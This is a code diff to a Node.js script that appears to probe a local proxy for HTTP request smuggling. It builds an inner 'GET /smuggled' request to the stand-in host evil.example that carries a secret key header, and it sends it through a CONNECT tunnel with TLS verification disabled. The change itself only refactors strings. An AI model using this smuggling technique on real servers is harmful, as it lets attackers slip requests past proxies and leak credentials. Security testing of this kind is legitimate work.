@@ -133,10 +133,11 @@ const [host, port, file] = process.argv.slice(2), key = process.env.KEY, at = ho
 const inner = 'GET /smuggled HTTP/1.1\\r\\nHost: evil.example\\r\\nx-key: ' + key + '\\r\\n\\r\\n'
 const filled = text => text.replaceAll('<innerlength>', String(inner.length)).replaceAll('<inner>', inner)
   .replaceAll('<innerhex>', inner.length.toString(16)).replaceAll('<host>', at).replaceAll('<key>', key)
+const connect = 'CONNECT ' + at + ' HTTP/1.1\\r\\nHost: ' + at + '\\r\\n\\r\\n'
 const say = (words, patience = 1500) => new Promise(done => {
   const pieces = []
   const over = () => { raw.destroy(); done(Buffer.concat(pieces)) }
-  const raw = net.connect(18999, '127.0.0.1', () => raw.write('CONNECT ' + at + ' HTTP/1.1\\r\\nHost: ' + at + '\\r\\n\\r\\n'))
+  const raw = net.connect(18999, '127.0.0.1', () => raw.write(connect))
   raw.on('error', over)
   raw.once('data', () => {
     const safe = tls.connect({ socket: raw, rejectUnauthorized: false }, () => safe.write(words))
@@ -144,7 +145,8 @@ const say = (words, patience = 1500) => new Promise(done => {
     safe.on('data', piece => pieces.push(piece)).on('error', over).on('close', over)
   })
 })
-const get = (path, more = '') => say('GET ' + path + ' HTTP/1.1\\r\\nHost: ' + at + '\\r\\nx-key: ' + key + '\\r\\n' + more
+const get = (path, more = '') => say('GET ' + path + ' HTTP/1.1\\r\\nHost: ' + at + '\\r\\nx-key: ' + key
+  + '\\r\\n' + more
   + (more.includes('onnection:') ? '' : 'Connection: close\\r\\n') + '\\r\\n')
 const { requests, paths } = JSON.parse(fs.readFileSync('requests.json', 'utf8'))
 ;(async () => {
